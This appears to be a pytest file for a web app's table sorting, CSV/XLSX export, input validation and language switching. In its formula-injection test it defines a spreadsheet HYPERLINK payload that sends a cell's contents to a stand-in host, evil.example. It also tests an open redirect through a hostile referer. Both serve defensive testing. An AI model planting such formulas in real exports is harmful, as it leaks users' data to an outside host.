"""Server-side sorting and filtering of the page tables and their CSV/XLSX export: the whole
filtered result in the page's order (not only the page shown), column names checked, values
safe against formula injection in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update
from tests.support.webstore import Store, auth
from tests.web.test_web_scenario import EXIT_SETTINGS, REGISTER

from sovmap.store.schema import scan_domains
from sovmap.web.app import create_app
from sovmap.web.export import safe_cell
from sovmap.web.features import detect_features

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def c(store: Store) -> Iterator[TestClient]:
    features = detect_features(REGISTER, exit_settings=EXIT_SETTINGS)
    with TestClient(create_app(store.engine, features=features)) as client:
        client.headers.update(auth(store, "admin"))
        yield client


def rows(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")  # a BOM, so spreadsheets read UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def test_safe_cell() -> None:
    for risky in ("=1+2", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(risky) == "'" + risky
    assert safe_cell("gemeente.nl") == "gemeente.nl"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5  # numbers stay numbers
    assert safe_cell(None) == ""
    assert safe_cell(("a", "b")) == "a, b"


def test_domains_csv_is_the_whole_filtered_sorted_result(c: TestClient, store: Store) -> None:
    page = c.get("/domains?prefix=gemeente00")
    assert page.status_code == 200
    assert 'href="?scan=' not in page.text  # nothing but the filters in the links
    assert "export=domains&amp;format=csv" in page.text  # a link under the table
    r = c.get("/domains?prefix=gemeente00&sort=domains.domain&dir=desc&export=domains&format=csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    got = rows(r.content)
    assert got[0] == ["Domain", "Organisation", "Mailbox provider", "US-controlled capabilities"]
    domains = [x[0] for x in got[1:]]
    # 60 domains match, more than one page (50): the export has them all, in the page's order
    assert len(domains) == 60 and domains == sorted(domains, reverse=True)
    assert all(d.startswith("gemeente00") for d in domains)
    # the same filter on the page: total and first row agree with the export
    shown = c.get("/domains?prefix=gemeente00&sort=domains.domain&dir=desc").text
    assert f"/domains/{domains[0]}?" in shown.split("<tbody>")[1].split("</tr>")[0]
    assert 'aria-sort="descending"' in shown


def test_sorting_covers_every_page_and_is_stable(c: TestClient) -> None:
    everything = rows(c.get("/domains?sort=domains.mailbox&export=domains&format=csv").content)
    body = everything[1:]
    keys = [r[2].casefold() for r in body if r[2]]
    assert keys == sorted(keys)  # by mailbox provider over all 60 domains
    assert [r for r in body if not r[2]] == body[len(keys) :]  # unknown last
    for k in set(keys):  # equal keys keep the domain order (stable)
        same = [r[0] for r in body if r[2].casefold() == k]
        assert same == sorted(same)
    # page 2 of the sorted page continues where page 1 stopped
    p2 = c.get("/domains?sort=domains.mailbox&page=2").text
    assert f"/domains/{body[50][0]}?" in p2.split("<tbody>")[1].split("</tr>")[0]


def test_formula_injection_is_defused(c: TestClient, store: Store) -> None:
    with store.engine.begin() as conn:
        conn.execute(
            update(scan_domains)
            .where(scan_domains.c.domain == "gemeente000001.nl")
            .values(attributes=json.dumps({"name": EVIL}))
        )
    got = rows(c.get("/domains?prefix=gemeente000001&export=domains&format=csv").content)
    assert got[1][1] == "'" + EVIL
    from openpyxl import load_workbook

    r = c.get("/domains?prefix=gemeente000001&export=domains&format=xlsx")
    assert r.status_code == 200 and "spreadsheetml" in r.headers["content-type"]
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    cell = ws.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value == "'" + EVIL  # text, not a formula


def test_xlsx_and_dutch_headers(c: TestClient) -> None:
    from openpyxl import load_workbook

    c.cookies.set("sovmap_lang", "nl")
    r = c.get("/orgs?export=orgs&format=xlsx&sort=orgs.name&dir=desc")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    values = list(ws.values)
    assert values[0][0] == "Organisatie"
    names = [v[0] for v in values[1:]]
    assert len(names) == 60 and names == sorted(names, reverse=True)


@pytest.mark.parametrize(
    "url",
    [
        "/?export=providers&format=csv",
        "/?export=jurisdiction&format=csv&sort=jurisdiction.domains&dir=desc",
        "/orgs?export=orgs&format=csv",
        "/changes?export=changes&format=csv&sort=changes.event",
        "/trends?export=trends&format=csv",
        "/trends?export=groups&format=csv",
        "/providers/microsoft?export=capabilities&format=csv",
        "/admin?export=audit&format=csv",
        "/admin?export=users&format=csv&sort=users.role",
        "/domains/gemeente000001.nl?export=findings&format=csv&sort=findings.confidence",
        "/register?export=register&format=csv&sort=register.exit_plan",
        "/cutoff?jurisdiction=US&export=processes&format=csv&sort=processes.people&dir=desc",
        "/cutoff?jurisdiction=US&export=data&format=csv",
        "/exit?deadline=9mo&what_if=capacity%2B2&export=whatifs&format=csv",
        "/exit?export=targets&format=csv",
        "/exit?export=gaps&format=csv",
    ],
)
def test_every_table_exports(c: TestClient, url: str) -> None:
    if "audit" in url:  # an entry in the audit log
        assert c.post("/admin/public", data={"enabled": "0"}).status_code == 200
    r = c.get(url)
    assert r.status_code == 200, r.text[:300]
    got = rows(r.content)
    assert len(got) >= 2 and all(len(x) == len(got[0]) for x in got)
    page = c.get(url.split("export=", maxsplit=1)[0].rstrip("?&")).text
    table = url.split("export=")[1].split("&", maxsplit=1)[0]
    assert f"export={table}&amp;format=xlsx" in page


def test_numbers_sort_as_numbers(c: TestClient) -> None:
    got = rows(
        c.get(
            "/cutoff?jurisdiction=US&export=processes&format=csv&sort=processes.people&dir=desc"
        ).content
    )
    people = [int(x[6]) for x in got[1:] if x[6]]
    assert people == sorted(people, reverse=True) and len(people) >= 2


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("/domains?sort=domains.password", "valid: domain, organisation, mailbox, us"),
        ("/domains?sort=users.name", "no table 'users'"),
        ("/domains?sort=domains.domain&dir=sideways", "asc or desc"),
        ("/domains?export=domains&format=pdf", "csv, xlsx"),
        ("/?export=secrets", "no table 'secrets'"),
    ],
)
def test_bad_sort_and_export_are_refused(c: TestClient, url: str, says: str) -> None:
    r = c.get(url, headers={"accept": "application/json"})
    assert r.status_code == 400 and says in r.json()["detail"], r.text


def test_trends_title_is_plain_text(c: TestClient) -> None:
    title = c.get("/trends").text.split("<title>")[1].split("</title>")[0]
    assert title == "Trends · sovmap"


def test_language_switch_goes_back_to_the_page(c: TestClient, tmp_path: Path) -> None:
    r = c.get(
        "/lang?set=nl",
        headers={"referer": "http://testserver/domains?prefix=gem"},
        follow_redirects=False,
    )
    assert r.status_code == 303 and r.headers["location"] == "/domains?prefix=gem"
    assert "sovmap_lang=nl" in r.headers["set-cookie"]
    away = c.get(
        "/lang?set=en", headers={"referer": "http://evil.example/x"}, follow_redirects=False
    )
    assert away.headers["location"] == "/"
    assert c.get("/lang?set=xx", follow_redirects=False).status_code == 400
    c.cookies.clear()  # no choice made: the browser's languages decide
    assert '<html lang="nl">' in c.get("/", headers={"accept-language": "nl-NL,nl;q=0.9"}).text
    assert '<html lang="nl">' in c.get("/", headers={"accept-language": "fr, nl;q=0.5"}).text
    assert '<html lang="en">' in c.get("/", headers={"accept-language": "fr"}).text


def test_log_in_and_account_messages_in_dutch(client: TestClient) -> None:
    client.cookies.set("sovmap_lang", "nl")
    page = client.get("/login")
    assert '<html lang="nl">' in page.text and "Gebruikersnaam" in page.text
    csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
    wrong = client.post(
        "/login", data={"username": "viewer", "password": "wrong password!", "csrf": csrf}
    )
    assert wrong.status_code == 401 and "Verkeerde gebruikersnaam of wachtwoord." in wrong.text
    assert "Wrong user name" not in wrong.text
    gone = client.get("/login?msg=signed_out")
    assert "U bent uitgelogd." in gone.text
